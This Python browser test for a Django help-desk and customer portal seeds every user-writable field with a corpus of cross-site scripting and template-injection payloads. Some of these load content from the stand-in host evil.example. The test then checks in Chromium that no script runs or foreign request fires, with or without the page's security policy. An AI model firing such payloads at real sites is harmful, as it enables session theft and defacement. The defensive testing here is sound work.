"""Everything that people can write is written as an attack; a real browser opens the pages and must stay silent.

Two walls, each tried with the other one down: what is shown is text, also where the policy of the page is switched off.
"""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from amparo.cases import commands as cases
from amparo.charging.rules import Need
from amparo.complaints import commands as complaints
from amparo.complaints.models import Complaint
from amparo.complaints.rules import Consequences
from amparo.conftest import make_contact, make_customer, make_staff
from amparo.contracts import commands as contracts
from amparo.files import commands as files
from amparo.history.commands import deliver_pending
from amparo.kernel.actor import SYSTEM
from amparo.kernel.refusals import Refusal
from amparo.live import commands as live
from amparo.policies.commands import set_value
from amparo.products import commands as products
from amparo.threads import commands as threads
from amparo.tickets import commands as tickets

from .browser import chromium, needs_chromium, open_page  # noqa: F401 (fixtures)
from .matrix import client_of

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), needs_chromium]

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\"><svg/onload=alert(3)>",
    "'><body onload=alert(4)>",
    "[uno](JaVaScRiPt:alert(5)) [dos](java\tscript:alert(5)) [tres](&#106;avascript:alert(5)) <javascript:alert(5)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==) [y](vbscript:msgbox(6)) [z](//evil.example/z)",
    "![p](https://evil.example/p.png) ![q](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+)",
    "<math><mtext></p><style><img src=x onerror=alert(8)></style></mtext></math>",
    "<svg><style><img src=x onerror=alert(9)></style></svg>",
    "<a href=\" &#1;javascript:alert(10)\" onfocus=alert(10) autofocus>x</a>",
    "<details open ontoggle=alert(11)><summary>x</summary></details>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe><object data=//evil.example/o></object>",
    "{{7*7191}} {% print(7*7191) %} ${7*7191} #{7*7191}",
    "</textarea></title></script><script>alert(14)</script>",
    "<style>@import '//evil.example/s.css';body{background:url(//evil.example/b)}</style>",
    "\u202e<ſcript>alert(16)</ſcript>\u200b＜script＞alert(16)＜/script＞",
    "<link rel=stylesheet href=//evil.example/l.css><base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "x\" hx-on:load=\"alert(18)\" hx-get=\"//evil.example/h\" hx-trigger=\"load\" data-follow-url=\"//evil.example/f",
    "<div hx-get=//evil.example/h hx-trigger=load data-dialog></div><form action=//evil.example><button>x</button></form>",
)  # fmt: skip


def _try(write, *args, **named):
    """Write; a refusal is a right answer too."""
    try:
        return write(*args, **named)
    except Refusal:
        return None


@pytest.fixture
def poisoned(transactional_db, settings, tmp_path):
    """A world in which each text that somebody can give is an attack."""
    settings.MEDIA_ROOT = tmp_path
    at = timezone.now()
    admin, engineer = make_staff(CORPUS[1], "administrator"), make_staff(CORPUS[0], "engineer")
    world = SimpleNamespace(admin=admin, engineer=engineer, tickets=[], cases=[], customers=[], files=[])
    everything = "\n\n".join(CORPUS)
    product = products.add_product("POS", CORPUS[1][:80], actor=admin, at=at)
    release = products.add_release(product, "10.1", at.date(), actor=admin, at=at)
    products.make_current(release, actor=admin, at=at)
    plan = contracts.add_plan(
        CORPUS[2],
        events=99,
        incidents=99,
        credits=99,
        months=12,
        price=100,
        currency="MXN",
        actor=admin,
        at=at,
    )
    _batch, codes = contracts.issue_batch(CORPUS[1], 20, 1, actor=admin, at=at)
    _try(set_value, "identity.name", CORPUS[1], from_at=at, actor=SYSTEM, at=at)
    _try(set_value, "identity.hours", CORPUS[2], from_at=at, actor=SYSTEM, at=at)
    for number, text in enumerate(CORPUS):
        customer = make_customer(text, legal_name=text, phone="+525555123456", address=text, notes=everything)
        contact = make_contact(customer, text[:120])
        world.customers.append((customer, contact))
        _try(threads.add_template, title=text[:120], language="es-mx", body=everything, actor=engineer, at=at)
        call = live.start_call(
            "5555123456",
            key=f"call-{number:04}",
            customer_id=customer.pk,
            caller_name=text[:120],
            actor=engineer,
            at=at,
        )
        _try(
            live.end_call,
            call,
            about=text[:200],
            outcome="information",
            notes=everything,
            actor=engineer,
            at=at,
        )
    customer, contact = world.customers[0]
    licence = products.register_licence(
        "SERIE-0001", product, customer, terminals=99, installed=release, actor=admin, at=at
    )
    contracts.sell_contract(customer, plan, timezone.localdate(at), actor=admin, at=at)
    contracts.redeem_card(codes[0], customer.pk, actor=contact, at=at, address="127.0.0.1")
    for number, text in enumerate(CORPUS):
        _try(products.bind_terminal, licence, text[:80], f"HUELLA-{number:04}", actor=admin, at=at)
        draft = f"ticket:new:{contact.user_id}"
        stored = files.store(
            SimpleUploadedFile(f"{text[:60].replace('/', '-')}.txt", b"texto", "text/html"),
            draft_key=draft,
            actor=contact,
            at=at,
        )
        ticket = tickets.open_ticket(text[:200], everything, product.pk, licence_id=licence.pk, is_fault=True, files=[stored.public_id],
                                     draft_key=draft, actor=contact, at=at)  # fmt: skip
        threads.note(ticket.thread, everything, actor=engineer, at=at)
        tickets.write(ticket, text, key=f"w{number}", via="desk", actor=engineer, at=at)
        _try(threads.tag, ticket.thread, [text[:30]], actor=engineer, at=at)
        world.tickets.append(ticket)
        world.cases.append(_poisoned_case(number, text, everything, contact, engineer, at))
    _try(tickets.mark_defect, world.tickets[0], title=CORPUS[0], actor=engineer, at=at)
    while deliver_pending(at=at):
        pass
    world.customer, world.contact, world.licence, world.stored = customer, contact, licence, stored
    return world


def _poisoned_case(number, text, everything, contact, engineer, at):
    """A case that waits for consent, for an order, or for its closing to be accepted, by turns."""
    case = cases.open_case(text[:200], everything, key=f"case-{number:04}", actor=contact, at=at)
    kind = "general" if number % 4 == 3 else "incident"
    cases.classify(case, kind=kind, explanation=everything, key=f"k{number}", actor=engineer, at=at)
    case.refresh_from_db()
    if kind == "general":
        cases.propose_order(case, description=everything, needs=[Need("general_quote", 1)], delivery_on=at.date(), travel=text[:200],
                            key=f"o{number}", actor=engineer, at=at)  # fmt: skip
    elif number % 4 != 2:
        cases.consent(case, seen=case.classification, actor=contact, at=at)
        case.refresh_from_db()
        cases.raise_need(case, text[:400], key=f"n{number}", actor=engineer, at=at)
        case.refresh_from_db()
        closing = cases.propose_closing(case, reason="not_technically_possible" if number % 2 else "solved", summary=everything, explanation=everything,
                                        procedure=everything, key=f"p{number}", actor=engineer, at=at)  # fmt: skip
        if number % 4 == 1:
            case.refresh_from_db()
            raised = complaints.raise_complaint(case, seen=closing.pk, reasons=everything, key="q", actor=contact, at=at)
            judge = make_staff(CORPUS[2], "quality")
            complaints.say(raised, everything, key="s", actor=contact, at=at)
            complaints.note(raised, everything, key="n", actor=judge, at=at)
            director = make_staff(CORPUS[3], "rnd_director")
            asked = complaints.ask_opinion(raised, everything, key="o", actor=judge, at=at)
            complaints.give_opinion(asked, everything, actor=director, at=at)
            if number > 1:
                chosen = Consequences(again=True, measure=text[:400])
                complaints.rule(raised, outcome="upheld", reasons=everything, consequences=chosen, key="d", actor=judge, at=at)
    case.refresh_from_db()
    return case


def _desk_pages(world):
    customer = world.customer.pk
    yield from (
        "/desk/",
        "/desk/tickets/",
        "/desk/cases/",
        "/desk/people/",
        "/desk/phone/?q=55123456",
        f"/desk/phone/{customer}/",
    )
    yield from (
        f"/desk/people/{customer}/",
        f"/desk/statements/{customer}/",
        f"/desk/products/licences/{world.licence.pk}/",
        "/desk/products/",
    )
    yield from (
        "/desk/contracts/",
        "/desk/contracts/plans/",
        "/desk/contracts/cards/",
        "/desk/policies/",
        "/desk/policies/identity/",
        "/desk/defects/",
    )
    yield from (
        reverse("desk_threads:templates"),
        "/desk/reports/",
        "/desk/people/staff/",
        f"/desk/tickets/?q={'alert'}",
    )
    yield f"/desk/people/{world.customers[3][0].pk}/"
    for one in world.tickets[:2]:
        yield f"/desk/tickets/{one.pk}/"
    for one in world.cases[:4]:
        yield from (f"/desk/cases/{one.pk}/", f"/desk/cases/{one.pk}/record/")
    yield from ("/desk/complaints/", *(f"/desk/complaints/{one.pk}/" for one in Complaint.objects.order_by("pk")[:2]))


def _portal_pages(world):
    yield from (
        "/",
        "/matters/",
        "/tickets/",
        "/cases/",
        "/statements/",
        "/contracts/",
        "/products/licences/",
        "/people/company/",
        "/notifications/",
    )
    yield from (
        f"/products/licences/{world.licence.pk}/",
        "/help/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/tickets/new/",
        "/contracts/standing/",
    )
    for one in world.tickets[:2]:
        yield f"/tickets/{one.pk}/"
    for one in world.cases[:4]:
        yield from (f"/cases/{one.pk}/", f"/cases/{one.pk}/record/")
    yield from ("/complaints/", *(f"/complaints/{one.pk}/" for one in Complaint.objects.order_by("pk")[:2]))
    yield "/nothing/%3Cscript%3Ealert(1)%3C/script%3E"


# Nothing changes meanwhile. (A route for it would let the browser keep no script and no stylesheet from page to page.)
SILENT_STREAM = "window.EventSource = class extends EventTarget { static OPEN = 1; static CLOSED = 2; readyState = 1; close() {} }"


@pytest.mark.timeout(600)
def test_nothing_that_people_write_runs(poisoned, live_server, open_page, settings):  # noqa: F811
    """SEC-19, SEC-21, SEC-22: no script, dialog, refusal of the policy or request to elsewhere, at the desk and in the portal."""
    settings.PUBLIC_URL, settings.STREAM_URL = live_server.url, "/events"
    for actor, pages in ((poisoned.admin, _desk_pages), (poisoned.contact, _portal_pages)):
        for policy in ("with the policy", "without the policy"):
            page = open_page((live_server.url,), bypass_csp=policy == "without the policy")
            page.add_init_script(SILENT_STREAM)
            session = client_of(actor).cookies[settings.SESSION_COOKIE_NAME].value
            page.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": live_server.url}])
            for path in pages(poisoned):
                _stays_silent(page, live_server.url, path, policy)


def _stays_silent(page, url, path, policy):
    before, where = len(page.complaints), f"{path} {policy}"
    answer = page.goto(url + path)
    if answer.status == 404:
        assert path.startswith("/nothing/"), where
        page.complaints[before:] = [one for one in page.complaints[before:] if "404" not in one]
    assert "50337" not in page.inner_text("body"), f"{where} runs what was written as a template"
    live_things = page.evaluate(
        "[...document.querySelectorAll('iframe, object, embed, base, math, [onerror], [onload], [ontoggle], [onfocus], main style, "
        'main [hx-on\\\\:load], [href^="javascript" i], [href^="data" i], [href^="vbscript" i], [src*="evil.example"], [hx-get*="evil.example"], '
        'meta[http-equiv=refresh], form[action*="evil.example"]\')].map(e => e.outerHTML.slice(0, 150))'
    )
    assert not live_things, f"{where}: {live_things}"
    assert page.complaints[before:] == [], f"{where}: {page.complaints[before:][:3]}"
